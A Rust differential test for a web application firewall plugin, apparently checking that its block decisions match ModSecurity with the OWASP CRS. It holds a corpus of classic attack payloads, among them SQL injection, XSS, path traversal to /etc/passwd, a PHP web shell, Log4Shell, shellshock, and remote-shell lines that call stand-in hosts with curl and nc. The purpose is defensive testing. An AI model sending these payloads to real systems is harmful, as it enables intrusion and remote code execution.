//! Differential test against ModSecurity v3 itself (Debian's libmodsecurity3, built into a
//! small C harness, `modsecurity/decide.c`), both running Debian's CRS 3.3 at paranoia level
//! 1 over the same corpus: attacks of each CRS category and ordinary traffic (forms, JSON
//! APIs, cookies, uploads, non-ASCII text). Decisions (block or pass) must agree on at least
//! 99% of requests; agreement on the logged rule ids is reported and must stay above 90%.
//!
//! Needs `cc`, `libmodsecurity-dev` and `modsecurity-crs` (`.ci/run` installs them).

mod common;

use std::collections::BTreeSet;
use std::path::Path;
use weir_plugin_waf::Waf;
use weir_sdk::testing::{self, MockRequest};

const CRS: &str = "/usr/share/modsecurity-crs/rules";
const SETUP: &str = "/etc/modsecurity/crs/crs-setup.conf";

/// ModSecurity's recommended body-processor rules (its `modsecurity.conf-recommended`),
/// which the filter's `typed-bodies` setting stands for.
const MODSEC_CONF: &str = r#"SecRuleEngine On
SecRequestBodyAccess On
SecRule REQUEST_HEADERS:Content-Type "^(?:application(?:/soap\+|/)|text/)xml" "id:200000,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "^application/json" "id:200001,phase:1,t:none,t:lowercase,pass,nolog,ctl:requestBodyProcessor=JSON"
"#;

struct Case {
    what: String,
    method: &'static str,
    uri: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

const UA: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0";

fn case(what: &str, method: &'static str, uri: &str, extra: &[(&str, &str)], body: &[u8]) -> Case {
    let mut headers = vec![
        ("Host".to_string(), "shop.example".to_string()),
        ("User-Agent".to_string(), UA.to_string()),
        (
            "Accept".to_string(),
            "text/html,application/xhtml+xml,*/*;q=0.8".to_string(),
        ),
        ("Accept-Language".to_string(), "en-GB,en;q=0.9".to_string()),
    ];
    for (n, v) in extra {
        match headers.iter_mut().find(|(k, _)| k.eq_ignore_ascii_case(n)) {
            Some(h) => h.1 = v.to_string(),
            None => headers.push((n.to_string(), v.to_string())),
        }
    }
    if !body.is_empty() {
        headers.push(("Content-Length".into(), body.len().to_string()));
    }
    Case {
        what: what.into(),
        method,
        uri: uri.into(),
        headers,
        body: body.to_vec(),
    }
}

fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Attack payloads by CRS category: each goes into a query argument, a form field, a JSON
/// value and a cookie.
const PAYLOADS: &[(&str, &str)] = &[
    ("sqli", "1' OR '1'='1"),
    ("sqli", "1 UNION SELECT username, password FROM users--"),
    ("sqli", "admin'--"),
    ("sqli", "1; DROP TABLE users"),
    ("sqli", "' or sleep(5)#"),
    ("sqli", "1 AND 1=1 AND 'a'='a"),
    ("sqli", "x' AND extractvalue(1,concat(0x7e,version()))--"),
    ("sqli", "1' waitfor delay '0:0:5'--"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(document.domain)>"),
    ("xss", "javascript:alert(1)"),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "\"><iframe src=//evil.example>"),
    ("xss", "<body onload=alert('x')>"),
    ("lfi", "../../../../etc/passwd"),
    ("lfi", "..\\..\\..\\windows\\win.ini"),
    ("lfi", "/etc/shadow"),
    ("lfi", "....//....//etc/hosts"),
    ("rfi", "http://203.0.113.9/shell.txt?"),
    ("rfi", "ftp://evil.example/x.php"),
    ("rce", ";cat /etc/passwd"),
    ("rce", "$(curl http://evil.example/x|sh)"),
    ("rce", "| nc -e /bin/sh 203.0.113.9 4444"),
    ("rce", "`id`"),
    ("rce", "& ping -n 3 127.0.0.1 &"),
    ("php", "<?php system($_GET['c']); ?>"),
    ("php", "php://input"),
    ("php", "phpinfo()"),
    ("php", "O:8:\"stdClass\":0:{}"),
    ("java", "java.lang.Runtime.getRuntime().exec('id')"),
    ("java", "${jndi:ldap://evil.example/a}"),
    ("node", "require('child_process').exec('id')"),
    ("node", "_$$ND_FUNC$$_function(){}"),
    (
        "session",
        "x\";document.cookie=\"PHPSESSID=abc; domain=.example",
    ),
];

/// Ordinary values that must pass.
const BENIGN: &[&str] = &[
    "blue shoes",
    "42",
    "Crème brûlée & café",
    "Grüße aus München",
    "東京タワー",
    "user@example.com",
    "2026-12-06",
    "The quick brown fox jumps over the lazy dog.",
    "price:asc",
    "O'Brien",
    "Don't stop me now",
    "https://www.example.com/page",
    "a-b_c.d~e",
    "100%",
    "first line, second line",
    "résumé.pdf",
];

fn corpus() -> Vec<Case> {
    let mut out = Vec::new();
    for (kind, p) in PAYLOADS {
        out.push(case(
            &format!("{kind} query {p}"),
            "GET",
            &format!("/search?q={}", enc(p)),
            &[],
            b"",
        ));
        out.push(case(
            &format!("{kind} form {p}"),
            "POST",
            "/comment",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            format!("name=ada&text={}", enc(p)).as_bytes(),
        ));
        let json = serde_json::json!({ "item": { "note": p }, "n": 1 }).to_string();
        out.push(case(
            &format!("{kind} json {p}"),
            "POST",
            "/api/items",
            &[("Content-Type", "application/json")],
            json.as_bytes(),
        ));
        out.push(case(
            &format!("{kind} cookie {p}"),
            "GET",
            "/account",
            &[("Cookie", &format!("session=abc123; pref={}", enc(p)))],
            b"",
        ));
    }
    for v in BENIGN {
        out.push(case(
            &format!("benign query {v}"),
            "GET",
            &format!("/search?q={}&page=2", enc(v)),
            &[],
            b"",
        ));
        out.push(case(
            &format!("benign form {v}"),
            "POST",
            "/comment",
            &[("Content-Type", "application/x-www-form-urlencoded")],
            format!("name=ada&text={}", enc(v)).as_bytes(),
        ));
        let json =
            serde_json::json!({ "title": v, "tags": ["a", "b"], "qty": 3, "ok": true }).to_string();
        out.push(case(
            &format!("benign json {v}"),
            "POST",
            "/api/items",
            &[("Content-Type", "application/json")],
            json.as_bytes(),
        ));
    }
    let multipart = |name: &str, filename: Option<&str>, value: &str| {
        let disposition = match filename {
            Some(f) => format!("form-data; name=\"{name}\"; filename=\"{f}\"\r\nContent-Type: application/octet-stream"),
            None => format!("form-data; name=\"{name}\""),
        };
        format!(
            "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nholiday\r\n\
             --XyZ\r\nContent-Disposition: {disposition}\r\n\r\n{value}\r\n--XyZ--\r\n"
        )
    };
    let mp = [("Content-Type", "multipart/form-data; boundary=XyZ")];
    out.push(case(
        "upload photo",
        "POST",
        "/upload",
        &mp,
        multipart("photo", Some("beach.jpg"), "\u{1}\u{2}JFIF data").as_bytes(),
    ));
    out.push(case(
        "upload text field",
        "POST",
        "/upload",
        &mp,
        multipart("desc", None, "A day at the beach").as_bytes(),
    ));
    out.push(case(
        "upload xss field",
        "POST",
        "/upload",
        &mp,
        multipart("desc", None, "<script>alert(1)</script>").as_bytes(),
    ));
    out.push(case(
        "upload php file",
        "POST",
        "/upload",
        &mp,
        multipart("f", Some("shell.php"), "<?php system($_GET['c']); ?>").as_bytes(),
    ));
    for (what, uri, extra) in [
        ("plain page", "/", vec![]),
        ("static asset", "/static/app.3f9c.js", vec![]),
        (
            "deep link",
            "/blog/2026/12/weir-release-notes?utm_source=news&utm_medium=email",
            vec![],
        ),
        (
            "cookies",
            "/cart",
            vec![("Cookie", "session=abc123; theme=dark; _ga=GA1.2.3.4")],
        ),
        (
            "referer",
            "/next",
            vec![("Referer", "https://shop.example/prev?x=1")],
        ),
        (
            "json accept",
            "/api/items?limit=20&offset=40",
            vec![("Accept", "application/json")],
        ),
        (
            "scanner sqlmap",
            "/",
            vec![("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)")],
        ),
        (
            "scanner nikto",
            "/",
            vec![(
                "User-Agent",
                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
            )],
        ),
        (
            "shellshock",
            "/cgi-bin/status",
            vec![("User-Agent", "() { :; }; /bin/bash -c 'id'")],
        ),
        (
            "xss referer",
            "/",
            vec![("Referer", "http://x/<script>alert(1)</script>")],
        ),
        ("restricted file", "/.env", vec![]),
        ("restricted ext", "/backup/db.sql", vec![]),
        ("git dir", "/.git/config", vec![]),
        ("numeric host", "/", vec![("Host", "192.0.2.1")]),
        ("no accept", "/", vec![("Accept", "")]),
    ] {
        let mut c = case(what, "GET", uri, &extra, b"");
        c.headers.retain(|(_, v)| !v.is_empty());
        out.push(c);
    }
    out.push(case("method PROPFIND", "PROPFIND", "/", &[], b""));
    out.push(case("method TRACE", "TRACE", "/", &[], b""));
    out
}

fn modsecurity(dir: &Path, cases: &[Case]) -> Vec<(u16, Vec<String>)> {
    let conf = dir.join("modsec.conf");
    std::fs::write(
        &conf,
        format!("{MODSEC_CONF}Include {SETUP}\nInclude {CRS}/*.conf\n"),
    )
    .unwrap();
    let mut input = String::new();
    for c in cases {
        input.push_str(&format!("REQ {} {}\n", c.method, c.uri));
        for (n, v) in &c.headers {
            input.push_str(&format!("H {n}: {v}\n"));
        }
        if !c.body.is_empty() {
            input.push_str("B ");
            for b in &c.body {
                input.push_str(&format!("{b:02x}"));
            }
            input.push('\n');
        }
        input.push_str("END\n");
    }
    let exe = common::build_c(dir, "modsecurity/decide.c", "decide");
    common::run(&exe, &[&conf], input)
        .lines()
        .map(|l| {
            let (status, ids) = l.split_once(' ').unwrap();
            let ids = if ids == "-" {
                vec![]
            } else {
                ids.split(',').map(String::from).collect()
            };
            (status.parse().unwrap(), ids)
        })
        .collect()
}

fn weir(cases: &[Case]) -> Vec<(u16, Vec<String>)> {
    let config = serde_json::json!({ "rules": [SETUP, format!("{CRS}/*.conf")] });
    let waf = testing::init::<Waf>(&config.to_string()).unwrap();
    cases
        .iter()
        .map(|c| {
            let mut req = MockRequest::new(c.method, &c.uri)
                .with_raw_path_and_query(&c.uri)
                .with_client_addr("192.0.2.10");
            for (n, v) in &c.headers {
                req = req.with_header(&n.to_ascii_lowercase(), v);
            }
            if !c.body.is_empty() {
                req = req.with_body(c.body.clone());
            }
            let action = testing::on_request(&waf, &mut req);
            let status = action.response().map_or(0, |r| r.status);
            let ids = req
                .context
                .get("waf.rules")
                .map(|s| s.split(',').map(String::from).collect())
                .unwrap_or_default();
            (status, ids)
        })
        .collect()
}

#[test]
fn decisions_agree_with_modsecurity_on_the_corpus() {
    assert!(
        Path::new(CRS).is_dir(),
        "the OWASP CRS is not installed at {CRS}: apt-get install modsecurity-crs"
    );
    let dir = tempfile::tempdir().unwrap();
    let cases = corpus();
    let theirs = modsecurity(dir.path(), &cases);
    assert_eq!(theirs.len(), cases.len(), "one decision per request");
    let ours = weir(&cases);
    let (mut same_decision, mut same_ids, mut blocked) = (0, 0, 0);
    let mut report = String::new();
    for ((c, (ts, tids)), (os, oids)) in cases.iter().zip(&theirs).zip(&ours) {
        let (tb, ob) = (*ts != 0, *os != 0);
        blocked += usize::from(tb);
        let tset: BTreeSet<_> = tids.iter().collect();
        let oset: BTreeSet<_> = oids.iter().collect();
        if tb == ob {
            same_decision += 1;
        }
        if tset == oset {
            same_ids += 1;
        }
        if tb != ob || tset != oset {
            report.push_str(&format!(
                "  {}{}: modsecurity {ts} {tset:?}, weir {os} {oset:?}\n",
                if tb != ob { "DECISION " } else { "" },
                c.what
            ));
        }
    }
    let n = cases.len();
    let decisions = same_decision as f64 / n as f64;
    let ids = same_ids as f64 / n as f64;
    println!(
        "{n} requests ({blocked} blocked by ModSecurity): same decision {same_decision} ({:.1}%), \
         same logged rule ids {same_ids} ({:.1}%)\n{report}",
        decisions * 100.0,
        ids * 100.0
    );
    assert!(
        blocked > n / 3 && blocked < n,
        "the corpus has attacks and ordinary requests"
    );
    assert!(
        decisions >= 0.99,
        "decisions differ on more than 1%:\n{report}"
    );
    assert!(
        ids >= 0.90,
        "logged rule ids differ on more than 10%:\n{report}"
    );
}
